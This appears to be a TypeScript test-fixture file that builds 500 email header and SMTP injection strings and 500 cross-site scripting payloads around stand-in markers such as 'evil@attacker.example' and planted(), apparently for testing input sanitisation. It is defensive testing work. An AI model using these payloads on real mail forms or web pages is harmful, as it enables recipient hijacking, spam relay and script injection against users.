/** What people write who want a header, a second recipient or a script of their own: 500 of them, each carrying `planted`. */
export const planted = 'evil@attacker.example';

const headers = ['Bcc', 'Cc', 'To', 'Subject', 'Reply-To', 'From', 'Content-Type', 'X-Injected', 'MIME-Version', 'Message-ID'];
const breaks = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c', '%0d%0a', '\\r\\n', '\r\n\t', '\u0000\r\n', '嘊嘍', '\r\n \r\n', '\n\n'];
const starts = ['jordan@example.com', '"Jordan" <jordan@example.com>', 'Jordan', '', 'ＦＵＬＬ', '\u202Egro.', 'é\u0301', '\ud83d\ude00', 'a'.repeat(300)];
const encoded = [
  `=?utf-8?B?${Buffer.from(`x\r\nBcc: ${planted}`).toString('base64')}?=`,
  `=?utf-8?Q?x=0D=0ABcc:_${planted}?=`,
  `=?iso-8859-1?q?=0d=0a?= ${planted}`,
  `jordan@example.com, ${planted}`,
  `jordan@example.com; ${planted}`,
  `jordan@example.com ${planted}`,
  `<jordan@example.com><${planted}>`,
  `jordan@example.com(${planted})`,
  `group: jordan@example.com, ${planted};`,
  `"a\\"@b" <${planted}>`,
  `${planted}%relay@example.com`,
  `example.com!${planted}`,
  `@relay.example:${planted}`,
  `jordan@[127.0.0.1] ${planted}`,
  `jordan@example.com\r\n.\r\nRCPT TO:<${planted}>\r\nDATA`,
  `jordan@example.com>\r\nRCPT TO:<${planted}`,
  `\r\n.\r\nMAIL FROM:<${planted}>`,
  `\n.\n${planted}`,
  `\r.\r${planted}`,
];

export const hostileTexts: string[] = [
  ...encoded,
  ...starts.flatMap((start) => breaks.flatMap((line) => headers.map((header) => `${start}${line}${header}: ${planted}`))),
].slice(0, 500);

const scripts = [
  '<script>planted()</script>',
  '"><img src=x onerror=planted()>',
  "'><svg/onload=planted()>",
  '<a href="javascript:planted()">x</a>',
  '</title><script>planted()</script>',
  '</style><script>planted()</script>',
  '<!--<img src=x onerror=planted()>-->',
  '<iframe srcdoc="<script>planted()</script>">',
  '&lt;script&gt;planted()&lt;/script&gt;',
  '<style>@import "//planted.example"</style>',
  'https://planted.example/"onclick=planted()',
  '{{constructor.constructor("planted()")()}}',
  ']]><script>planted()</script>',
  '<math><mtext><img src=x onerror=planted()></mtext></math>',
  '<body onload=planted()>',
  '<base href=//planted.example>',
  '<form action=//planted.example><button>x</button></form>',
  '<meta http-equiv=refresh content="0;url=//planted.example">',
  '<svg><script>planted()</script></svg>',
  '\u003cscript\u003eplanted()\u003c/script\u003e',
];
const wraps = [
  '',
  '"',
  "'",
  '`',
  '>',
  '-->',
  '*/',
  '\\',
  '\u0000',
  '\u202e',
  '%3E',
  '&#62;',
  '\r\n',
  ' ',
  '\t',
  '${',
  '<![CDATA[',
  '</td>',
  '</a>',
  'x'.repeat(200),
  '\ufeff',
  '=',
  '/',
  ';',
  '//',
];

/** 500 texts that would run, load or break out of their place if they were ever read as markup. */
export const scriptTexts: string[] = wraps.flatMap((wrap) => scripts.map((script) => `${wrap}${script}`)).slice(0, 500);
